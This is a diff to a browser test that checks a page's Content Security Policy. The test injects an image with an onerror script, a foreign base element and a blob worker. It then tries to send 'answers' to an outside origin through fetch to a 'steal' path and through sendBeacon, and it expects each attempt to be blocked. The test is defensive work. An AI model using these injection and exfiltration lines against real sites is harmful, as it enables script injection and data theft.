@@ -60,7 +60,10 @@ test("what gets into the page does not run, and carries nothing away", async ({ 
     holder.innerHTML = `<img src="${url}picture.png" onerror="document.title = 'injected'"><p style="color: red">x</p>`;
     const frame = document.createElement("iframe");
     frame.src = url;
-    document.body.append(inline, remote, holder, frame);
+    const base = document.createElement("base");
+    base.href = url;
+    document.body.append(inline, remote, holder, frame, base);
+    new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
     await fetch(`${url}steal`, { method: "POST", body: "answers" }).catch(() => undefined);
     navigator.sendBeacon(`${url}beacon`, "answers");
   }, elsewhere);
@@ -74,6 +77,8 @@ test("what gets into the page does not run, and carries nothing away", async ({ 
         "img-src",
         "style-src-attr",
         "frame-src",
+        "base-uri",
+        "worker-src",
         "connect-src",
       ]),
     );
